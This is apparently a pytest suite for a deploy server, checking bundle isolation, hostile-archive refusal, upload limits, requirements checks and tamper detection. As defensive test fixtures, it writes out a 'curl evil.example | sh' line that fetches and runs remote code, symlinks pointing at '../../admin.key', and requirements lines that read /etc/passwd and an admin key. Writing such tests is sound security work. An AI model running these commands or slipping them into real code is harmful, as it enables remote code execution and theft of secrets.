"""Deploys to a real server trust nothing they are sent: each app's bundles are its own, hostile bundles are
refused off the event loop while other apps keep answering, uploads are bounded as they stream, requirements
are checked before pip runs, versions are read-only and verified when they load again, and the data
directory of an older server still serves its versions.

Real bundles, real worker processes, a real SQLite store, a real socket.
"""

from __future__ import annotations

import asyncio
import logging
import shutil
import sqlite3
import sys
import tarfile
import textwrap
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, closing
from pathlib import Path
from typing import IO, Any

import httpx
import pytest

from tests.deploy.packages import wheel
from tests.deploy.tarballs import archive, empty_files, file, sha, special
from triggerfish.deploy.bundle import BundleLimits, pack
from triggerfish.gateway import GatewayServer
from triggerfish.names import BUNDLES_NAMESPACE
from triggerfish.server.host import Host
from triggerfish.server.host_http import HostASGI

APP = """
import triggerfish

app = triggerfish.App({name!r})


@app.http("GET", "/hello")
def hello(event, context):
    return {{"app": {name!r}, "version": {version}}}
"""


def write_app(directory: Path, name: str, version: int, requirements: str | None = None) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    (directory / "app.py").write_text(textwrap.dedent(APP).format(name=name, version=version), encoding="utf-8")
    if requirements is not None:
        (directory / "requirements.txt").write_text(requirements, encoding="utf-8")
    return directory


class Served:
    def __init__(self, host: Host, http: httpx.AsyncClient) -> None:
        self.host = host
        self.http = http

    async def upload(self, app: str, data: bytes) -> httpx.Response:
        return await self.http.put(
            f"/-/api/v1/apps/{app}/bundles/{sha(data)}", content=data, headers={"content-type": "application/gzip"}
        )

    async def deploy_bundle(self, app: str, bundle: str) -> httpx.Response:
        return await self.http.post(f"/-/api/v1/apps/{app}/deploys", json={"bundle": bundle})

    async def deploy(self, app: str, directory: Path) -> httpx.Response:
        """As `triggerfish deploy` does: upload unless the server has it, then deploy."""
        bundle = pack(directory)
        if (await self.http.head(f"/-/api/v1/apps/{app}/bundles/{bundle.sha256}")).status_code == 404:
            stored = await self.upload(app, bundle.data)
            assert stored.status_code == 201, stored.text
        return await self.deploy_bundle(app, bundle.sha256)


@asynccontextmanager
async def serving(data_dir: Path, **settings: Any) -> AsyncIterator[Served]:
    host = Host(data_dir=data_dir, **settings)
    await host.start()
    try:
        async with (
            GatewayServer(HostASGI(host, open_access=True), port=0) as server,
            httpx.AsyncClient(base_url=server.url, timeout=60) as http,
        ):
            yield Served(host, http)
    finally:
        await host.stop()


@pytest.fixture
async def served(tmp_path: Path) -> AsyncIterator[Served]:
    async with serving(tmp_path / "server") as one:
        yield one


# --- each app's bundles are its own ---------------------------------------------------------------------


async def test_another_apps_bundle_is_404_and_cannot_be_deployed_by_its_hash(served: Served, tmp_path: Path) -> None:
    shop = pack(write_app(tmp_path / "shop", "shop", 1))
    assert (await served.deploy("shop", tmp_path / "shop")).status_code == 201
    assert (await served.http.head(f"/-/api/v1/apps/shop/bundles/{shop.sha256}")).status_code == 200

    # blog learns nothing of shop's bundle: the same answers as for a bundle nobody uploaded.
    nobodys = "0" * 64
    assert (await served.http.head(f"/-/api/v1/apps/blog/bundles/{shop.sha256}")).status_code == 404
    assert (await served.http.head(f"/-/api/v1/apps/blog/bundles/{nobodys}")).status_code == 404
    taken = await served.deploy_bundle("blog", shop.sha256)
    missing = await served.deploy_bundle("blog", nobodys)
    assert taken.status_code == missing.status_code == 400
    assert taken.json()["error"]["message"].replace(shop.sha256, nobodys) == missing.json()["error"]["message"]
    assert (await served.http.get("/blog/hello")).status_code == 404

    # Uploading the same bytes makes them blog's own copy.
    assert (await served.upload("blog", shop.data)).status_code == 201
    assert (await served.deploy_bundle("blog", shop.sha256)).status_code == 201
    assert served.host.bundles.path("blog", shop.sha256) != served.host.bundles.path("shop", shop.sha256)


async def test_removing_an_app_forgets_its_bundles(served: Served, tmp_path: Path) -> None:
    bundle = pack(write_app(tmp_path / "shop", "shop", 1))
    await served.deploy("shop", tmp_path / "shop")
    assert (await served.http.delete("/-/api/v1/apps/shop")).status_code == 204
    # A new app of that name starts empty: the old tenant's bundles are not there to deploy.
    assert (await served.http.head(f"/-/api/v1/apps/shop/bundles/{bundle.sha256}")).status_code == 404
    assert not served.host.bundles.app_root("shop").exists()


# --- hostile bundles --------------------------------------------------------------------------------------


async def test_a_hostile_bundle_is_refused_naming_what_and_stores_nothing(served: Served) -> None:
    hostile = archive([file("app.py"), special("key", tarfile.SYMTYPE, "../../admin.key")])
    answer = await served.upload("shop", hostile)
    assert answer.status_code == 400
    assert answer.json()["error"]["code"] == "InvalidBundle"
    assert "'key' is a symbolic link (to '../../admin.key')" in answer.json()["error"]["message"]
    assert (await served.http.head(f"/-/api/v1/apps/shop/bundles/{sha(hostile)}")).status_code == 404
    bomb = empty_files(25_000)  # 25,000 empty files in some 200 kB
    answer = await served.upload("shop", bomb)
    assert answer.status_code == 400
    assert "past the limit of 10000 members per bundle (max_files)" in answer.json()["error"]["message"]
    assert list(served.host.bundles.app_root("shop").iterdir()) == []


async def test_other_apps_answer_while_a_hostile_bundle_is_being_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Limits lifted so that refusing this bundle takes long enough to watch: 60,000 members are read
    # before the last one, a link, is refused.
    limits = BundleLimits(max_files=1_000_000, max_ratio=1_000_000)
    hostile = empty_files(60_000, then=[special("late", tarfile.SYMTYPE, "/")])
    async with serving(tmp_path / "server", bundle_limits=limits) as served:
        assert (await served.deploy("blog", write_app(tmp_path / "blog", "blog", 1))).status_code == 201
        loop = asyncio.get_running_loop()
        checking = asyncio.Event()
        put = served.host.bundles.put

        def watched_put(app: str, sha256: str, data: bytes | IO[bytes]) -> Path:
            loop.call_soon_threadsafe(checking.set)
            return put(app, sha256, data)

        monkeypatch.setattr(served.host.bundles, "put", watched_put)
        upload = asyncio.ensure_future(served.upload("shop", hostile))
        await asyncio.wait_for(checking.wait(), 60)
        latencies: list[float] = []
        while not upload.done():
            began = time.monotonic()
            answer = await served.http.get("/blog/hello")
            latencies.append(time.monotonic() - began)
            assert answer.json() == {"app": "blog", "version": 1}
        refused = await upload
    assert refused.status_code == 400
    assert "'late' is a symbolic link" in refused.json()["error"]["message"]
    # blog kept answering while the bundle was being checked, in a thread: on the event loop, not one of
    # these requests could have been answered before the refusal.
    assert len(latencies) >= 3, latencies
    assert max(latencies) < 2.0, latencies
    print(f"\n{len(latencies)} requests during the refusal; slowest {max(latencies) * 1000:.0f} ms")


async def test_an_upload_past_the_limit_is_refused_as_it_streams(tmp_path: Path) -> None:
    limits = BundleLimits(max_upload_bytes=4096)
    async with serving(tmp_path / "server", bundle_limits=limits) as served:
        declared = await served.http.put(
            f"/-/api/v1/apps/shop/bundles/{'a' * 64}", content=b"x" * 5000, headers={"content-type": "application/gzip"}
        )
        assert declared.status_code == 413
        assert "at most 4096 bytes" in declared.json()["error"]["message"]

        sent = 0

        def chunks() -> Iterator[bytes]:
            # No Content-Length: the server counts as it reads, and stops reading.
            nonlocal sent
            for _ in range(1000):
                sent += 1024
                yield b"x" * 1024

        streamed = await served.http.put(
            f"/-/api/v1/apps/shop/bundles/{'a' * 64}",
            content=_aiter(chunks()),
            headers={"content-type": "application/gzip"},
        )
        assert streamed.status_code == 413
        assert streamed.json()["error"]["code"] == "RequestTooLarge"
        assert not served.host.bundles.app_root("shop").exists()


async def _aiter(items: Iterator[bytes]) -> AsyncIterator[bytes]:
    for item in items:
        yield item


# --- requirements -----------------------------------------------------------------------------------------


async def test_a_requirements_line_that_is_not_a_package_fails_the_deploy_before_pip(
    served: Served, tmp_path: Path
) -> None:
    secret = (served.host.data_dir / "admin.key").read_text(encoding="utf-8").strip()
    project = write_app(tmp_path / "shop", "shop", 1, requirements="orjson\n-r ../../admin.key\n-r /etc/passwd\n")
    answer = await served.deploy("shop", project)
    assert answer.status_code == 422
    error = answer.json()["error"]
    assert error["code"] == "DeployFailed"
    assert error["phase"] == "install"
    assert error["message"].startswith("requirements.txt: 2 lines refused")
    assert "line 2: '-r ../../admin.key' uses -r, which includes another file" in error["message"]
    assert "line 3: '-r /etc/passwd'" in error["message"]
    assert secret not in answer.text
    assert "root:" not in answer.text
    assert not (served.host.data_dir / "deps" / "by-app").exists()  # pip never ran
    assert (await served.http.get("/shop/hello")).status_code == 404


async def test_the_server_installs_from_its_own_index_for_each_app(tmp_path: Path) -> None:
    index = tmp_path / "index"
    wheel(index, "tinylib", "NAME = 'tinylib'\n")
    settings = {"pip_args": ("--no-index", "--find-links", str(index))}
    async with serving(tmp_path / "server", **settings) as served:
        for app in ("shop", "blog"):
            answer = await served.deploy(app, write_app(tmp_path / app, app, 1, requirements="tinylib==1.0\n"))
            assert answer.status_code == 201, answer.text
            assert "Successfully installed tinylib-1.0" in answer.json()["phases"][0]["output"]
        installs = served.host.data_dir / "deps" / "by-app"
        assert sorted(p.name for p in installs.iterdir()) == ["blog", "shop"]


# --- read-only, verified versions -------------------------------------------------------------------------


async def test_a_deployed_versions_files_are_read_only_and_the_servers(served: Served, tmp_path: Path) -> None:
    bundle = pack(write_app(tmp_path / "shop", "shop", 1, requirements=""))
    await served.deploy("shop", tmp_path / "shop")
    tree = served.host.bundles.path("shop", bundle.sha256)
    modes = {p.relative_to(tree).as_posix(): p.stat().st_mode & 0o7777 for p in tree.rglob("*")}
    assert modes == {"app.py": 0o444, "requirements.txt": 0o444}
    assert tree.stat().st_mode & 0o7777 == 0o555
    assert served.host.bundles.archive_path("shop", bundle.sha256).stat().st_mode & 0o7777 == 0o444
    assert {p.stat().st_uid for p in [tree, *tree.rglob("*")]} == {served.host.data_dir.stat().st_uid}


async def test_a_tampered_version_is_refused_after_a_restart_and_a_new_deploy_restores_it(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    data = tmp_path / "server"
    source = tmp_path / "shop"
    async with serving(data) as first:
        assert (await first.deploy("shop", write_app(source, "shop", 1))).status_code == 201
        tree = first.host.bundles.path("shop", pack(source).sha256)
    # While the server is down, someone appends to the live version's code.
    tree.chmod(0o755)
    (tree / "app.py").chmod(0o644)
    with (tree / "app.py").open("a", encoding="utf-8") as code:
        code.write("\nimport os; os.system('curl evil.example | sh')\n")
    caplog.set_level(logging.ERROR, logger="triggerfish.server")
    async with serving(data) as second:
        assert (await second.http.get("/shop/hello")).status_code == 404
        assert "app.py has other content" in caplog.text
        assert "does not match what was deployed" in caplog.text
        # The deployer deploys again: the tampered copy was set aside, so the bundle is uploaded afresh.
        assert (await second.deploy("shop", source)).status_code == 201
        assert (await second.http.get("/shop/hello")).json() == {"app": "shop", "version": 1}
        assert "curl" not in (tree / "app.py").read_text(encoding="utf-8")


async def test_rolling_back_to_a_tampered_version_fails_and_keeps_the_live_one(served: Served, tmp_path: Path) -> None:
    source = tmp_path / "shop"
    await served.deploy("shop", write_app(source, "shop", 1))
    first = pack(source)
    await served.deploy("shop", write_app(source, "shop", 2))
    tree = served.host.bundles.path("shop", first.sha256)
    tree.chmod(0o755)
    (tree / "json.py").write_text("", encoding="utf-8")
    # Version 1 is no longer loaded (only live is), so rolling back loads it again, and checks it.
    answer = await served.http.post("/-/api/v1/apps/shop/rollback", json={"to": 1})
    assert answer.status_code == 422, answer.text
    assert "json.py was added" in answer.json()["error"]["message"]
    assert (await served.http.get("/shop/hello")).json()["version"] == 2


# --- the data directory of an older server ----------------------------------------------------------------


def _as_an_older_server_left_it(data: Path) -> None:
    """Move bundles and installs back to the shared layout of servers before they were per app (and before
    bundles were kept in the store for a cluster's other nodes)."""
    with closing(sqlite3.connect(data / "store.db")) as connection, connection:
        connection.execute("DELETE FROM kv WHERE namespace = ?", (BUNDLES_NAMESPACE,))
    by_app = data / "bundles" / "by-app"
    for app_root in by_app.iterdir():
        for entry in app_root.iterdir():
            if entry.is_dir() and not (data / "bundles" / entry.name).exists():
                entry.chmod(0o755)
                entry.rename(data / "bundles" / entry.name)
    shutil.rmtree(by_app, onerror=lambda *_: None)  # archives were not kept then
    for path in (data / "bundles").rglob("*"):
        path.chmod(0o755 if path.is_dir() or path.stat().st_mode & 0o111 else 0o644)
    installs = data / "deps" / "by-app"
    if installs.exists():
        for install in installs.glob(f"*/{sys.implementation.cache_tag}/*"):
            target = data / "deps" / sys.implementation.cache_tag / install.name
            target.parent.mkdir(parents=True, exist_ok=True)
            if not target.exists():
                install.rename(target)
        shutil.rmtree(installs)


async def test_an_older_servers_data_directory_still_serves_its_versions(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    index = tmp_path / "index"
    wheel(index, "tinylib", "NAME = 'tinylib'\n")
    data = tmp_path / "server"
    source = tmp_path / "shop"
    async with serving(data, pip_args=("--no-index", "--find-links", str(index))) as old:
        assert (
            await old.deploy("shop", write_app(source, "shop", 1, requirements="tinylib==1.0\n"))
        ).status_code == 201
        first = pack(source)
        # Version 2 was packed by another tool: packing its files again does not give its hash back.
        other = archive([file("app.py", textwrap.dedent(APP).format(name="shop", version=2).encode())], compresslevel=1)
        assert (await old.upload("shop", other)).status_code == 201
        assert (await old.deploy_bundle("shop", sha(other))).status_code == 201
    _as_an_older_server_left_it(data)
    assert (data / "bundles" / first.sha256).is_dir()

    caplog.set_level(logging.WARNING, logger="triggerfish.server")
    # No index now: an install would fail, so version 1 can only run on the install the old server made.
    async with serving(data, pip_args=("--no-index",)) as upgraded:
        assert (await upgraded.http.get("/shop/hello")).json() == {"app": "shop", "version": 2}
        assert "does not pack again to its hash" in caplog.text
        back = await upgraded.http.post("/-/api/v1/apps/shop/rollback", json={"to": 1})
        assert back.status_code == 200, back.text
        assert (await upgraded.http.get("/shop/hello")).json() == {"app": "shop", "version": 1}
        # Version 1's bundle is the app's own now, kept and verified like any new one.
        assert upgraded.host.bundles.has("shop", first.sha256)
        assert upgraded.host.bundles.verify("shop", first.sha256)
        assert not (data / "bundles" / first.sha256).exists()
        # Version 2's stays where it was, read-only, served but not counted as kept: deploying it again
        # uploads it, and from then on it is kept and checked like any other.
        legacy = data / "bundles" / sha(other)
        assert (legacy / "app.py").stat().st_mode & 0o777 == 0o444
        assert (await upgraded.http.post("/-/api/v1/apps/shop/rollback", json={"to": 2})).status_code == 200
        assert (await upgraded.http.get("/shop/hello")).json() == {"app": "shop", "version": 2}
        assert (await upgraded.http.head(f"/-/api/v1/apps/shop/bundles/{sha(other)}")).status_code == 404
        assert (await upgraded.upload("shop", other)).status_code == 201
        assert (await upgraded.deploy_bundle("shop", sha(other))).json()["version"] == 3
        assert upgraded.host.bundles.verify("shop", sha(other))
